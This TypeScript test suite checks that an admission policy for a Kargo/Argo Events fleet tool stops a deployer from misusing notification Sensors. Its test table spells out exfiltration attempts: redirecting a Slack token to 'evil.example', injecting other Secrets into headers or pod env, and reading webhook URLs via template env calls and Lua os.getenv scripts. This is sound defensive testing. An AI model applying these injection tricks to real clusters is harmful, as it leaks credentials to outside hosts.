import assert from "node:assert/strict";
import { setTimeout as pause } from "node:timers/promises";
import { type Cluster, openCluster } from "../../fleet/cluster.ts";
import { eventWatch, windowCalendar } from "../../manifests/notification-sources.ts";
import { everyObject } from "../every-object.ts";
import { catalogueText, planOf, service, stackText } from "../sources.ts";
import { administrator, DRY, unbound } from "./access-world.ts";
import { TOOLCHAIN_TIMEOUT } from "./control-plane.ts";
import { everythingOf } from "./expected-objects.ts";
import { type FleetStack, openFleetStack } from "./fleet-stack.ts";

const NOTIFICATIONS =
  '{ kargo: "https://kargo.acme.example", argoCd: "https://argocd.acme.example", groups: 1, slack: { existingSecret: slack-app }, webhooks: { pager: { url: "https://pager.acme.example", existingSecret: pager }, edge: { format: teams, existingSecret: edge-teams } } }';
const COMMIT_STATUS = "{ existingSecret: github-status }";
const ON = { notifications: NOTIFICATIONS, commitStatus: COMMIT_STATUS };
const TEAMS = {
  edge: { group: "AD-Edge", notify: { slack: "edge-releases", webhooks: ["edge"] } },
  identity: {
    group: "AD-Identity",
    approvers: "AD-Identity-Release",
    notify: { webhooks: ["pager"] },
  },
};
const SERVICES = { nginx: service("nginx"), auth: service("auth", { team: "identity" }) };
const EVENTS = "/apis/argoproj.io/v1alpha1/namespaces/kargo-fleet-events";

/** An object of the API with any fields. */
interface OpenObject {
  readonly apiVersion: string;
  readonly kind: string;
  readonly metadata: { readonly name: string };
  readonly spec: Spec;
}

interface Spec {
  readonly template: { readonly container: { readonly env?: readonly object[] } };
  readonly triggers: readonly { readonly template: { readonly http: Http } }[];
}

interface Http {
  readonly url: string;
  readonly payload: readonly object[];
  readonly parameters?: readonly object[];
  readonly secureHeaders?: readonly object[];
}

describe("messages and commit statuses of a stack", function () {
  this.timeout(TOOLCHAIN_TIMEOUT);
  let stack: FleetStack;
  let admin: Cluster;
  let deployer: Cluster;
  const configure = (keys: Readonly<Record<string, string>>) => stack.writeConfig(keys, TEAMS);
  const succeeds = async (...args: readonly string[]) => {
    const { failed, output } = await stack.cli(...args);
    assert.equal(failed, false, output);
    return output;
  };
  const planned = planOf(
    catalogueText(SERVICES, TEAMS),
    stackText({
      ...ON,
      webhooks: '{ url: "https://hooks.acme.example", groups: 2 }',
      credentials: "{ git: { username: kargo }, image: { username: reader } }",
      gitPassword: "{ secure: v1:abc }",
      imagePassword: "{ secure: v1:abc }",
    }),
  );
  const sensor = JSON.parse(
    JSON.stringify(
      everyObject(planned).find(({ kind, metadata }) => kind === "Sensor" && metadata.name === "notify-00"),
    ),
  ) as OpenObject;

  before(async () => {
    stack = await openFleetStack(["nginx", "auth"]);
    await configure({});
    await stack.writeCatalogue(catalogueText(SERVICES, TEAMS));
    admin = await administrator(stack);
    deployer = await openCluster({ kubeconfig: stack.kubeconfig, context: "sandbox" });
  });
  after(async () => {
    admin?.close();
    deployer?.close();
    await stack?.close();
  });

  it("are off by default, whatever teams say", async () => {
    await succeeds("up", "--yes", "--skip-preview");
    assert.deepEqual(
      (await stack.objects()).filter((name) => /notify|event-watch|messenger/.test(name)),
      [],
    );
  });

  it("are taken by the API server from the deployer under the guards, and a second up is empty", async () => {
    await configure(ON);
    await succeeds("up", "--yes", "--skip-preview");
    assert.deepEqual(await stack.objects(), everythingOf(planned));
    assert.match(await succeeds("up", "--yes"), /\d+ unchanged/);
    assert.doesNotMatch(await succeeds("preview", "--diff"), /[+~-] \d+ to/);
  });

  it("make the shared task report the Stage that a commit reached", async () => {
    const task = await stack.get("clusterpromotiontask", "kargo-fleet-promote-v1");
    const { steps } = (task as unknown as { spec: { steps: readonly { as: string }[] } }).spec;
    assert.deepEqual(
      steps.slice(-2).map(({ as }) => as),
      ["find-commit", "report-stage"],
    );
  });

  it("leave no credential in the state", async () => {
    const state = await stack.state();
    assert.match(state, /notify-00/);
    assert.doesNotMatch(state, /xoxb|sig=/);
  });

  describe("let the deployer", () => {
    before(async () => {
      await configure(ON);
      // A busy API server takes a changed policy in late.
      for (let tries = 0; tries < 60 && (await attack((spec) => spec)).status === 403; tries += 1)
        await pause(500);
    });

    const attack = async (change: (spec: Spec) => object) => {
      const body = {
        ...sensor,
        metadata: { ...sensor.metadata, name: "notify-07" },
        spec: change(sensor.spec),
      };
      return admin.send({
        method: "POST",
        path: `${EVENTS}/sensors?${DRY}`,
        body,
        as: unbound("kargo-fleet-deployer"),
      });
    };
    /** A Sensor with one changed request of this receiver. */
    const changed = (url: RegExp, change: (http: Http) => object) => (spec: Spec) => ({
      ...spec,
      triggers: spec.triggers
        .filter(({ template }) => url.test(template.http.url))
        .map((trigger) => ({
          ...trigger,
          template: { ...trigger.template, http: change(trigger.template.http) },
        })),
    });
    const slack = (change: (http: Http) => object) => changed(/slack\.com/, change);
    const hidden = (change: (http: Http) => object) => changed(/hidden/, change);
    const src = { dependencyName: "route_edge_0" };

    it("work under a guard that passes the API server's type check without a warning", async () => {
      const policy = async () =>
        (await stack.get("validatingadmissionpolicy", "kargo-fleet-deployer")) as unknown as {
          metadata: { generation: number };
          status?: { observedGeneration?: number; typeChecking?: object };
        };
      let { metadata, status } = await policy();
      for (let tries = 0; tries < 60 && status?.observedGeneration !== metadata.generation; tries += 1) {
        await pause(500);
        ({ metadata, status } = await policy());
      }
      assert.deepEqual([status?.observedGeneration, status?.typeChecking], [metadata.generation, {}]);
    });

    it("make a Sensor that sends the program's messages", async () => {
      for (const same of [(spec: Spec) => spec, slack((http) => http), hidden((http) => http)]) {
        const { status, body } = await attack(same);
        assert.equal(status, 201, JSON.stringify(body));
      }
    });

    for (const [what, change] of Object.entries({
      "send the Slack token elsewhere": slack((http) => ({ ...http, url: "https://evil.example" })),
      "send the Slack token to another receiver": slack((http) => ({
        ...http,
        url: "https://pager.acme.example",
      })),
      "send another Secret to a receiver": slack((http) => ({
        ...http,
        secureHeaders: [
          { name: "Authorization", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } },
        ],
      })),
      "change an address by a parameter": slack((http) => ({
        ...http,
        parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "url" }],
      })),
      "take a hidden address from an Event": hidden((http) => ({
        ...http,
        parameters: [{ src: { ...src, dataTemplate: "{{ .Input.body.message }}" }, dest: "url" }],
      })),
      "write a hidden address into a message": slack((http) => ({
        ...http,
        payload: [{ src: { ...src, dataTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
      })),
      "write it by another function": slack((http) => ({
        ...http,
        payload: [
          { src: { ...src, dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }, dest: "text" },
        ],
      })),
      "write it after an assignment": slack((http) => ({
        ...http,
        payload: [{ src: { ...src, dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }, dest: "text" }],
      })),
      "write it by a template over the Event's context": slack((http) => ({
        ...http,
        payload: [{ src: { ...src, contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
      })),
      "use an address of its own where an Event is missing": hidden((http) => ({
        ...http,
        parameters: http.parameters?.map((one) => {
          const { src: own, dest } = one as { src: object; dest: string };
          return { src: { ...own, dependencyName: "other", value: "https://evil.example" }, dest };
        }),
      })),
      "change a request when an Event comes": (spec: Spec) => ({
        ...spec,
        triggers: spec.triggers.map((trigger) => ({
          ...trigger,
          parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
        })),
      }),
      "trigger something else after a failure": (spec: Spec) => ({
        ...spec,
        triggers: spec.triggers.map((trigger) => ({ ...trigger, dlqTrigger: { template: { name: "x" } } })),
      }),
      ...Object.fromEntries(
        [
          { transform: { script: "event.body = os.getenv('URL_WEBHOOK_EDGE') return event" } },
          { filters: { script: "return os.getenv('URL_WEBHOOK_EDGE') ~= ''" } },
          {
            filters: {
              data: [
                { path: "body", type: "string", value: ["x"], template: '{{ env "URL_WEBHOOK_EDGE" }}' },
              ],
            },
          },
        ].map((more) => [
          `read it by ${JSON.stringify(more)}`,
          (spec: Spec) => ({
            ...spec,
            dependencies: [{ name: "x", eventSourceName: "notify", eventName: "kargo", ...more }],
          }),
        ]),
      ),
      "give the pod another Secret": (spec: Spec) => ({
        ...spec,
        template: {
          ...spec.template,
          container: {
            ...spec.template.container,
            env: [{ name: "X", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } }],
          },
        },
      }),
      "give the pod another ServiceAccount": (spec: Spec) => ({
        ...spec,
        template: { ...spec.template, serviceAccountName: "kargo-fleet-sensor" },
      }),
      "trigger something else": (spec: Spec) => ({
        ...spec,
        triggers: [{ template: { name: "x", log: {} } }],
      }),
    }))
      it(`not ${what}`, async () => {
        const { status, body } = await attack(change);
        assert.equal(status, 403, JSON.stringify(body));
        assert.match(JSON.stringify(body), /ValidatingAdmissionPolicy 'kargo-fleet-deployer'/);
      });

    const watching = async (source: object) => {
      const { status, body } = await admin.send({
        method: "POST",
        path: `${EVENTS}/eventsources?${DRY}`,
        body: source,
        as: unbound("kargo-fleet-deployer"),
      });
      // The guard comes first; the name may be taken then.
      return { allowed: status === 201 || status === 409, status, text: JSON.stringify(body) };
    };
    const calendar = windowCalendar([
      { name: "weekdays", cron: "0 8 * * 1-5", zone: "Europe/Berlin", stages: ["prod"] },
    ]);

    it("watch Kargo's Events, and know when windows open", async () => {
      for (const source of [eventWatch(), calendar]) {
        const { allowed, text } = await watching(source);
        assert.ok(allowed, text);
      }
    });

    it("not watch anything else", async () => {
      for (const [source, was, is] of [
        [eventWatch(), '"resource":"events"', '"resource":"secrets"'],
        [eventWatch(), '"^kargo-"', '""'],
        [eventWatch(), '"eventTypes":["ADD"]', '"eventTypes":["ADD","UPDATE"]'],
        [calendar, '"kargo-fleet-event-source"', '"kargo-fleet-event-watch"'],
        [calendar, '"timezone":"Europe/Berlin"', '"timezone":"UTC","persistence":{}'],
        [calendar, '"calendar":{', '"resource":{},"calendar":{'],
      ] as const) {
        const own = JSON.stringify(source);
        assert.ok(own.includes(was), was);
        const { status, text } = await watching(JSON.parse(own.replace(was, is)) as object);
        assert.equal(status, 403, `${was}: ${text}`);
      }
    });
  });

  describe("that a stack no longer wants", () => {
    it("are gone after one up, because nothing is lost with them", async () => {
      await configure({});
      await succeeds("up", "--yes", "--skip-preview");
      assert.deepEqual(
        (await stack.objects()).filter((name) => /notify|event-watch|messenger/.test(name)),
        [],
      );
    });
  });
});
